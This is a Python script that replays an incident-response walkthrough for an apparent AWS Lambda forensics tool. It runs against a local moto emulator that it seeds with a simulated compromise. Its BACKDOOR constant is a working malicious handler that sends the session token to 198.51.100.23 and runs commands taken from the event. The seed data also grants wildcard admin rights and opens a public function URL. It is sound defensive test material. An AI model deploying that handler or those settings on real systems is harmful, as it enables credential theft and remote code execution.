#!/usr/bin/env python3
"""Replays the README's incident walkthrough against a local AWS and writes each command's
real output to docs/walkthrough/, where the README's excerpts come from.

The account (111122223333) is moto_server's, started here on a free loopback port, with the
two loopback proxies of tests/servers/ that supply what moto lacks (provisioned concurrency,
code signing, per-qualifier policies; downloadable packages). It is seeded as the bundled
sample incident (examples/incident) left it: payments-processor running a backdoored package
with a public URL and an open resource policy, cache-warmer created by the attacker on the
same role, the function's logs showing its credentials read. The CloudTrail of the incident
is the bundled sample archive. Nothing reaches the internet.

The outputs name the emulator as http://127.0.0.1:5000 (its real port changes per run); each
command ran with --endpoint-url, which the "$ lambda-ir ..." lines leave out.

It then rewrites the README's excerpts from those outputs: each block after a marker
<!-- walkthrough FILE | PATTERN | PATTERN ... --> holds the lines of docs/walkthrough/FILE.txt
that contain one of the patterns (the command line always), in their order, cut to 150
characters, with "..." where lines were left out.

Usage: tools/walkthrough.py [BINARY]   (default build/lambda-ir; needs moto_server and boto3)
       tools/walkthrough.py --check     (the README's excerpts are those of docs/walkthrough/: exit 1 if not)
"""
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "docs", "walkthrough")
ACCOUNT = "111122223333"
CLEAN = "import json\n\ndef handler(event, context):\n    return {'statusCode': 200, 'body': json.dumps({'ok': True})}\n"
BACKDOOR = (
    "import json, os, urllib.request\n\n"
    "def handler(event, context):\n"
    "    creds = os.environ.get('AWS_SESSION_TOKEN', '')\n"
    "    urllib.request.urlopen('http://198.51.100.23/c?t=' + creds, timeout=1)\n"
    "    if event.get('cmd'):\n"
    "        return {'out': os.popen(event['cmd']).read()}\n"
    "    return {'statusCode': 200, 'body': json.dumps({'ok': True})}\n")


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def zipped(source):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("app.py", date_time=(2026, 11, 20, 9, 0, 0)), source)
    return buf.getvalue()


def start(argv, env=None):
    """A helper server that prints its port first."""
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, text=True, env=env)
    return proc, int(proc.stdout.readline())


def seed(endpoint, package_dir):
    import boto3  # only for a run against moto: --check needs none of it
    kw = dict(endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="testing", aws_secret_access_key="testing")
    iam, lam, logs, sqs = (boto3.client(s, **kw) for s in ("iam", "lambda", "logs", "sqs"))
    trust = {"Version": "2012-10-17",
             "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
    role = iam.create_role(RoleName="payments-processor-role", AssumeRolePolicyDocument=json.dumps(trust))["Role"]
    iam.put_role_policy(RoleName="payments-processor-role", PolicyName="app",
                        PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
                            {"Effect": "Allow", "Action": ["logs:*", "secretsmanager:GetSecretValue"], "Resource": "*"}]}))
    # What the attacker attached (the sample's AttachRolePolicy at 14:11:46): administrator rights.
    admin = iam.create_policy(PolicyName="ops-break-glass", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}))["Policy"]
    iam.attach_role_policy(RoleName="payments-processor-role", PolicyArn=admin["Arn"])
    backdoored = zipped(BACKDOOR)
    with open(os.path.join(package_dir, "payments-processor.zip"), "wb") as f:
        f.write(backdoored)
    with open(os.path.join(package_dir, "cache-warmer.zip"), "wb") as f:
        f.write(backdoored)
    lam.create_function(FunctionName="payments-processor", Runtime="python3.12", Role=role["Arn"], Handler="app.handler",
                        Code={"ZipFile": backdoored}, Environment={"Variables": {"STRIPE_SECRET_KEY": "sk_live_51Hx0Walkthrough0Only"}})
    lam.put_function_concurrency(FunctionName="payments-processor", ReservedConcurrentExecutions=20)
    queue = sqs.create_queue(QueueName="payments")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    lam.create_event_source_mapping(EventSourceArn=queue_arn, FunctionName="payments-processor", Enabled=True, BatchSize=10)
    lam.add_permission(FunctionName="payments-processor", StatementId="public-invoke", Action="lambda:InvokeFunctionUrl",
                       Principal="*", FunctionUrlAuthType="NONE")
    lam.create_function_url_config(FunctionName="payments-processor", AuthType="NONE", Cors={"AllowOrigins": ["*"]})
    lam.create_function(FunctionName="cache-warmer", Runtime="python3.12", Role=role["Arn"], Handler="app.handler",
                        Code={"ZipFile": backdoored})
    iam.create_user(UserName="svc-backup")  # what the function's role created at 14:19:01 (its key is not in moto)
    group = "/aws/lambda/payments-processor"
    logs.create_log_group(logGroupName=group)
    logs.create_log_stream(logGroupName=group, logStreamName="2026/11/26/[$LATEST]7f3c")
    at = 1795702741000  # 2026-11-26T14:19:01Z, when the function's role created svc-backup
    logs.put_log_events(logGroupName=group, logStreamName="2026/11/26/[$LATEST]7f3c", logEvents=[
        {"timestamp": at, "message": "START RequestId: 0d6c Version: $LATEST"},
        {"timestamp": at + 200, "message": "env dump: AWS_SESSION_TOKEN=IQoJb3JpZ2luX2VjEXAMPLE AWS_ACCESS_KEY_ID=ASIAQ7CMDQLZORLHMAS7"},
        {"timestamp": at + 900, "message": "connecting to 198.51.100.23:443"},
        {"timestamp": at + 1500, "message": "END RequestId: 0d6c"}])


def excerpt(name, patterns, width=150):
    """The lines of docs/walkthrough/NAME.txt that contain a pattern, "..." for each gap."""
    with open(os.path.join(OUT, name + ".txt")) as f:
        lines = f.read().splitlines()
    out, last = [], 0
    for number, line in enumerate(lines):
        if number > 0 and not any(p in line for p in patterns):
            continue
        if number > last + 1:
            out.append("...")
        out.append(line if len(line) <= width else line[:width - 3] + "...")
        last = number
    if last < len(lines) - 1:
        out.append("...")
    return "\n".join(out)


def readme_from_outputs():
    """(the README as it is, the README with its excerpts made from docs/walkthrough/)."""
    path = os.path.join(ROOT, "README.md")
    with open(path) as f:
        text = f.read()
    marker = re.compile(r"(<!-- walkthrough ([^|]+?)((?: \| [^|>]+?)*) -->\n```text\n)(.*?)(^```$)", re.S | re.M)

    def block(m):
        patterns = [p for p in m.group(3).split(" | ") if p.strip()]  # spaces inside a pattern count
        return m.group(1) + excerpt(m.group(2).strip(), patterns) + "\n" + m.group(5)

    return text, marker.sub(block, text)


def update_readme():
    _, made = readme_from_outputs()
    with open(os.path.join(ROOT, "README.md"), "w") as f:
        f.write(made)


def main(argv):
    if argv == ["--check"]:
        now, made = readme_from_outputs()
        if now != made:
            print("README.md: the walkthrough excerpts differ from docs/walkthrough/: run tools/walkthrough.py")
            return 1
        print("README.md: walkthrough excerpts current")
        return 0
    binary = os.path.abspath(argv[0] if argv else os.path.join(ROOT, "build", "lambda-ir"))
    work = tempfile.mkdtemp(prefix="lambda-ir-walkthrough-")
    packages = os.path.join(work, "packages")
    os.makedirs(packages)
    known_good = os.path.join(work, "payments-processor-src")
    os.makedirs(known_good)
    with open(os.path.join(known_good, "app.py"), "w") as f:
        f.write(CLEAN)
    servers = []
    try:
        port = free_port()
        moto = subprocess.Popen(["moto_server", "-H", "127.0.0.1", "-p", str(port)], stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, env=dict(os.environ, MOTO_ACCOUNT_ID=ACCOUNT))
        servers.append(moto)
        for _ in range(100):
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        gaps, gaps_port = start([sys.executable, os.path.join(ROOT, "tests/servers/lambda_gaps_proxy.py"), f"http://127.0.0.1:{port}"])
        servers.append(gaps)
        code, code_port = start([sys.executable, os.path.join(ROOT, "tests/servers/code_location_proxy.py"),
                                 f"http://127.0.0.1:{gaps_port}", packages])
        servers.append(code)
        endpoint = f"http://127.0.0.1:{code_port}"
        seed(endpoint, packages)

        env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
        env.update(AWS_ACCESS_KEY_ID="AKIAIOSFODNN7EXAMPLE", AWS_SECRET_ACCESS_KEY="walkthrough-only-secret",
                   AWS_DEFAULT_REGION="us-east-1", NO_COLOR="1")
        case = os.path.join(work, "cases", "payments-processor")
        os.makedirs(OUT, exist_ok=True)

        def run(name, args, aws=True):
            argv = [binary] + args + (["--endpoint-url", endpoint] if aws else [])
            r = subprocess.run(argv, cwd=work, env=env, capture_output=True, text=True)
            text = f"$ lambda-ir {' '.join(args)}\n" + r.stdout + r.stderr + f"(exit {r.returncode})\n"
            # The emulator's port changes from run to run; the README says where it listens.
            text = text.replace(endpoint, "http://127.0.0.1:5000").replace(work + "/", "").replace(work, ".")
            text = text.replace(ROOT + "/", "")
            text = re.sub(r"lambda-ir-walkthrough-[a-z0-9_]+", "incident", text)
            with open(os.path.join(OUT, name + ".txt"), "w") as f:
                f.write(text)
            print(f"{name}: exit {r.returncode}")

        sample = os.path.join(ROOT, "examples", "incident")
        run("01-whoami", ["whoami"])
        run("02-investigate", ["investigate", "payments-processor", "--case", "cases/payments-processor", "--cloudtrail", sample,
                               "--since", "2026-11-25T00:00Z", "--until", "2026-11-27T00:00Z", "--min-severity", "high"])
        run("03-contain-dry-run", ["contain", "payments-processor", "cache-warmer", "--case", "cases/payments-processor", "--dry-run"])
        run("04-contain", ["contain", "payments-processor", "cache-warmer", "--case", "cases/payments-processor", "--yes"])
        run("05-eradicate", ["eradicate", "payments-processor", "--case", "cases/payments-processor", "--delete-attacker-functions",
                             "--attacker-iam", "--revoke-sessions", "--redeploy", "payments-processor-src", "--yes"])
        run("06-recover-refused", ["recover", "payments-processor", "--case", "cases/payments-processor", "--monitor", "48h", "--yes"])
        run("07-harden", ["harden", "payments-processor", "--fixes", "url-auth,resource-policy", "--case", "cases/payments-processor",
                          "--yes"])
        run("08-recover", ["recover", "payments-processor", "--case", "cases/payments-processor", "--monitor", "48h", "--yes"])
        run("09-status", ["status", "cases/payments-processor"], aws=False)
        run("10-verify", ["verify", "cases/payments-processor"], aws=False)
        listing = subprocess.run(["find", ".", "-maxdepth", "3", "-not", "-path", "*/artifacts/*"], cwd=case, capture_output=True, text=True)
        with open(os.path.join(OUT, "11-case-layout.txt"), "w") as f:
            f.write("$ find cases/payments-processor -maxdepth 3 -not -path '*/artifacts/*' | sort\n" +
                    "\n".join(sorted(listing.stdout.split())) + "\n")
        update_readme()
    finally:
        for s in servers:
            s.terminate()
            s.wait()
        shutil.rmtree(work, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
